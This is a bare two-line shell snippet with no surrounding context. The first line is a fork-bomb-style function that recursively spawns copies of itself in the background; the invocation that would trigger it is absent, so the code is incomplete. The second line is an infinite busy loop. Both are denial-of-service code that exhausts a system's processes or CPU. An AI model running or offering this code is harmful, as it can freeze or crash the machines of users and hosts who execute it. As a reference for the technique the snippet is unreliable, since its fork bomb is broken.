:() { : | : & }
while :; do :; done
